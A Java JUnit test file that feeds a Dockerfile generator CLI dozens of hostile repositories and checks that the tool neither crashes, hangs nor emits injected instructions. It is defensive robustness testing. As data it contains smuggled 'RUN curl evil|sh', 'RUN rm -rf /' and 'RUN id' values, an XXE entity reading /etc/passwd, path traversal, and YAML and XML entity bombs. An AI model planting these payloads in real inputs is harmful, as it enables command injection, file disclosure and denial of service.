package dev.dockergen.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Repositories built to break a generator: binary and non-UTF-8 files, huge files, symlink loops,
 * a FIFO where a source file should be, deep trees, injection attempts. Every one ends with a
 * documented exit code and at most one line on stderr, never a crash (exit 1), a hang or a
 * Dockerfile instruction that came from the repository.
 */
class HostileInputTest {
    @TempDir
    Path tmp;

    private interface Setup {
        void make(Path dir) throws IOException, InterruptedException;
    }

    private static final String MAIN = "package main\nimport \"net/http\"\nfunc main() { http.ListenAndServe(\":8080\", nil) }\n";

    private Map<String, Setup> corpus() {
        Map<String, Setup> c = new LinkedHashMap<>();
        c.put("binary go.mod", d -> Files.write(d.resolve("go.mod"), new byte[] {0, 1, 2, (byte) 0xff, 10}));
        c.put("latin-1 go.mod", d -> Files.write(d.resolve("go.mod"), "module caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1)));
        c.put("2 MiB go.mod", d -> Files.writeString(d.resolve("go.mod"), "module a.b/c\n" + "// x\n".repeat(500_000)));
        c.put("go.mod is a directory", d -> {
            Files.createDirectories(d.resolve("go.mod"));
            Files.writeString(d.resolve("main.go"), MAIN);
        });
        c.put("symlink loop", d -> {
            Files.writeString(d.resolve("go.mod"), "module a.b/c\n");
            Files.writeString(d.resolve("main.go"), MAIN);
            Files.createSymbolicLink(d.resolve("loop"), d);
            Files.createDirectories(d.resolve("x"));
            Files.createSymbolicLink(d.resolve("x/back"), d.resolve("x"));
        });
        c.put("dangling links", d -> {
            Files.writeString(d.resolve("go.mod"), "module a.b/c\n");
            Files.createSymbolicLink(d.resolve("main.go"), d.resolve("nowhere.go"));
        });
        c.put("FIFO as main.go", d -> {
            Files.writeString(d.resolve("go.mod"), "module a.b/c\n");
            Process p = new ProcessBuilder("mkfifo", d.resolve("main.go").toString()).start();
            p.waitFor(10, TimeUnit.SECONDS);
        });
        c.put("deep tree", d -> {
            Files.writeString(d.resolve("go.mod"), "module a.b/c\n");
            Path deep = d;
            for (int i = 0; i < 120; i++) {
                deep = deep.resolve("d");
            }
            Files.createDirectories(deep);
            Files.writeString(deep.resolve("main.go"), MAIN);
            Files.writeString(d.resolve("main.go"), MAIN);
        });
        c.put("injection in module path", d -> {
            Files.writeString(d.resolve("go.mod"), "module \"github.com/a/b\\\"\\nRUN curl evil|sh\"\n");
            Files.writeString(d.resolve("main.go"), MAIN);
        });
        c.put("injection in directory name", d -> {
            Files.writeString(d.resolve("go.mod"), "module a.b/c\n");
            Path cmd = Files.createDirectories(d.resolve("cmd").resolve("x\nRUN id"));
            Files.writeString(cmd.resolve("main.go"), MAIN);
        });
        c.put("injection in port and route", d -> {
            Files.writeString(d.resolve("go.mod"), "module a.b/c\n");
            Files.writeString(d.resolve("main.go"), "package main\nfunc main() {\n\thttp.HandleFunc(\"/healthz\\\"]\\nRUN id\", nil)\n"
                    + "\thttp.ListenAndServe(\":99999999\", nil)\n}\n");
        });
        c.put("NUL bytes in source", d -> {
            Files.writeString(d.resolve("go.mod"), "module a.b/c\n");
            Files.write(d.resolve("main.go"), (MAIN + "\u0000\u0000").getBytes(StandardCharsets.UTF_8));
        });
        c.put("unknown go.mod directive", d -> Files.writeString(d.resolve("go.mod"), "module a.b/c\nRUN rm -rf /\n"));
        c.put("hostile .dockergen.yaml", d -> {
            Files.writeString(d.resolve("go.mod"), "module a.b/c\n");
            Files.writeString(d.resolve("main.go"), MAIN);
            Files.writeString(d.resolve(".dockergen.yaml"), "apiVersion: dockergen/v1\nkind: ProjectConfig\n"
                    + "labels: {team: \"x\\nRUN id\"}\n");
        });
        c.put("YAML bomb .dockergen.yaml", d -> {
            Files.writeString(d.resolve("go.mod"), "module a.b/c\n");
            StringBuilder b = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
            for (int i = 1; i < 9; i++) {
                b.append("a").append(i).append(": &a").append(i).append(" [").append(String.join(", ",
                        java.util.Collections.nCopies(9, "*a" + (i - 1)))).append("]\n");
            }
            Files.writeString(d.resolve(".dockergen.yaml"), b.toString());
        });
        c.put("XXE pom.xml", d -> Files.writeString(d.resolve("pom.xml"), "<?xml version=\"1.0\"?>\n"
                + "<!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<project><artifactId>&x;</artifactId></project>\n"));
        c.put("entity bomb pom.xml", d -> Files.writeString(d.resolve("pom.xml"), "<?xml version=\"1.0\"?>\n<!DOCTYPE p [\n"
                + "<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">\n"
                + "]>\n<project><artifactId>&c;</artifactId></project>\n"));
        c.put("injection in finalName", d -> Files.writeString(d.resolve("pom.xml"), "<project><artifactId>a</artifactId>"
                + "<version>1</version><build><finalName>x\nRUN id</finalName><plugins><plugin>"
                + "<artifactId>spring-boot-maven-plugin</artifactId></plugin></plugins></build></project>\n"));
        c.put("injection in Gradle include", d -> Files.writeString(d.resolve("settings.gradle"),
                "include 'x\\\"]\\nRUN id'\n"));
        c.put("YAML bomb application.yml", d -> {
            Files.writeString(d.resolve("pom.xml"), "<project><artifactId>a</artifactId><version>1</version><build><plugins>"
                    + "<plugin><artifactId>quarkus-maven-plugin</artifactId></plugin></plugins></build></project>\n");
            StringBuilder b = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
            for (int i = 1; i < 9; i++) {
                b.append("a").append(i).append(": &a").append(i).append(" [").append(String.join(", ",
                        java.util.Collections.nCopies(9, "*a" + (i - 1)))).append("]\n");
            }
            Files.createDirectories(d.resolve("src/main/resources"));
            Files.writeString(d.resolve("src/main/resources/application.yml"), b.toString());
        });
        c.put("empty repository", d -> { });
        // Node
        c.put("injection in start script", d -> {
            Files.writeString(d.resolve("package.json"), "{\"scripts\": {\"start\": \"node server.js\\nRUN id\"}}");
            Files.writeString(d.resolve("server.js"), "");
        });
        c.put("injection in .nvmrc", d -> {
            Files.writeString(d.resolve("package.json"), "{\"main\": \"server.js\"}");
            Files.writeString(d.resolve(".nvmrc"), "22\nRUN id\n");
            Files.writeString(d.resolve("server.js"), "");
        });
        c.put("injection in packageManager", d -> {
            Files.writeString(d.resolve("package.json"), "{\"packageManager\": \"bun@1.0\\nRUN id\", \"main\": \"s.js\"}");
            Files.writeString(d.resolve("bun.lock"), "{}");
            Files.writeString(d.resolve("s.js"), "");
        });
        c.put("injection in workspace member name", d -> {
            Files.writeString(d.resolve("package.json"), "{\"workspaces\": [\"apps/*\"]}");
            Files.createDirectories(d.resolve("apps/a"));
            Files.createDirectories(d.resolve("apps/b"));
            Files.writeString(d.resolve("apps/a/package.json"), "{\"name\": \"a\", \"scripts\": {\"start\": \"node a.js\"}}");
            Files.writeString(d.resolve("apps/b/package.json"), "{\"name\": \"b\\nRUN id\", \"scripts\": {\"build\": \"x\"}}");
        });
        c.put("workspace globs leave the repository", d -> {
            Files.writeString(d.resolve("package.json"), "{\"workspaces\": [\"../../*\", \"/etc\", \"**\"]}");
            Files.writeString(d.resolve("package-lock.json"), "{}");
        });
        c.put("yarnPath outside the project", d -> {
            Files.writeString(d.resolve("package.json"), "{\"packageManager\": \"yarn@4.5.0\", \"main\": \"s.js\"}");
            Files.writeString(d.resolve("yarn.lock"), "__metadata:\n  version: 8\n");
            Files.writeString(d.resolve(".yarnrc.yml"), "yarnPath: ../../../etc/passwd\n");
            Files.writeString(d.resolve("s.js"), "");
        });
        c.put("injection in angular outputPath", d -> {
            Files.writeString(d.resolve("package.json"), "{\"scripts\": {\"build\": \"ng build\"}, "
                    + "\"dependencies\": {\"@angular/core\": \"20\"}}");
            Files.writeString(d.resolve("angular.json"), "{\"projects\": {\"x\": {\"architect\": {\"build\": {\"options\": "
                    + "{\"outputPath\": \"dist\\nRUN id\"}}}}}}");
        });
        c.put("main outside the project", d -> Files.writeString(d.resolve("package.json"),
                "{\"main\": \"../../../etc/passwd.js\"}"));
        c.put("package.json is an array", d -> Files.writeString(d.resolve("package.json"), "[1, 2]"));
        c.put("truncated package.json", d -> Files.writeString(d.resolve("package.json"), "{\"name\": "));
        c.put("2 MiB package.json", d -> Files.writeString(d.resolve("package.json"),
                "{\"main\": \"s.js\", \"x\": \"" + "a".repeat(2_100_000) + "\"}"));
        // Python
        c.put("truncated pyproject.toml", d -> Files.writeString(d.resolve("pyproject.toml"), "[project\nname = \"x\"\n"));
        c.put("injection in requires-python", d -> {
            Files.writeString(d.resolve("pyproject.toml"), "[project]\nname = \"x\"\nrequires-python = \">=3.12\\nRUN id\"\n");
            Files.writeString(d.resolve("main.py"), "if __name__ == \"__main__\":\n    pass\n");
        });
        c.put("injection in project.scripts", d -> {
            Files.writeString(d.resolve("pyproject.toml"), "[project]\nname = \"x\"\n[project.scripts]\n"
                    + "\"x\\nRUN id\" = \"x.main:run\"\n");
        });
        c.put("binary requirements.txt", d -> {
            Files.write(d.resolve("requirements.txt"), new byte[] {(byte) 0xfe, (byte) 0xff, 0, 1});
            Files.writeString(d.resolve("app.py"), "print(1)\n");
        });
        c.put("requirements include loop", d -> {
            Files.writeString(d.resolve("requirements.txt"), "-r more.txt\n");
            Files.writeString(d.resolve("more.txt"), "-r requirements.txt\n");
            Files.writeString(d.resolve("main.py"), "if __name__ == \"__main__\":\n    pass\n");
        });
        c.put("C: injection in CMake target", d -> {
            Files.writeString(d.resolve("CMakeLists.txt"), "add_executable(\"x\nRUN id\" x.c)\n");
            Files.writeString(d.resolve("x.c"), "int main(void) { return 0; }\n");
        });
        c.put("C: unterminated CMake", d -> {
            Files.writeString(d.resolve("CMakeLists.txt"), "project(x C)\nadd_executable(x \"x.c\n");
            Files.writeString(d.resolve("x.c"), "int main(void) { return 0; }\n");
        });
        c.put("C: self-doubling Makefile", d -> {
            StringBuilder b = new StringBuilder("A0 = a\n");
            for (int i = 1; i < 60; i++) {
                b.append("A").append(i).append(" = $(A").append(i - 1).append(") $(A").append(i - 1).append(")\n");
            }
            Files.writeString(d.resolve("Makefile"), b.append("$(A59): x.o\n").toString());
            Files.writeString(d.resolve("x.c"), "int main(void) { return 0; }\n");
        });
        c.put("C: injection in README run line", d -> {
            Files.writeString(d.resolve("Makefile"), "app: app.o\n");
            Files.writeString(d.resolve("app.c"), "int main(void) { return 0; }\n");
            Files.writeString(d.resolve("README.md"), "./app --port 8080\"]\nRUN id\n./app --port=99999999\n");
        });
        return c;
    }

    @Test
    @Timeout(value = 120, unit = TimeUnit.SECONDS)
    void noHostileRepositoryCrashesHangsOrInjects() throws Exception {
        int tried = 0;
        int crashes = 0;
        int injections = 0;
        StringBuilder report = new StringBuilder();
        for (Map.Entry<String, Setup> e : corpus().entrySet()) {
            Path dir = Files.createDirectories(tmp.resolve("case" + tried));
            e.getValue().make(dir);
            for (List<String> args : List.of(List.of("detect", "--format", "json", dir.toString()),
                    List.of("init", "--dry-run", "--final", "alpine", dir.toString()))) {
                tried++;
                CliRunner.Result r = CliRunner.run(args.toArray(new String[0]));
                boolean crash = !Set.of(0, 2, 3, 4, 5, 7).contains(r.code())
                        || r.err().strip().lines().count() > 1;
                boolean injected = r.out().lines().anyMatch(l -> l.startsWith("RUN id") || l.startsWith("RUN curl")
                        || l.startsWith("RUN rm"));
                crashes += crash ? 1 : 0;
                injections += injected ? 1 : 0;
                report.append(String.format("%-30s %-7s exit %d %s%n", e.getKey(), args.get(0), r.code(),
                        r.code() == 0 ? "" : r.err().strip()));
            }
        }
        // the table goes to a file, not the build output (failures carry it in their message)
        report.append(String.format("hostile inputs: %d runs, %d crashes, %d injections%n", tried, crashes, injections));
        Files.createDirectories(Path.of("target"));
        Files.writeString(Path.of("target", "hostile-inputs.txt"), report);
        assertEquals(0, crashes, report.toString());
        assertEquals(0, injections, report.toString());
        assertTrue(tried >= 60);
    }
}
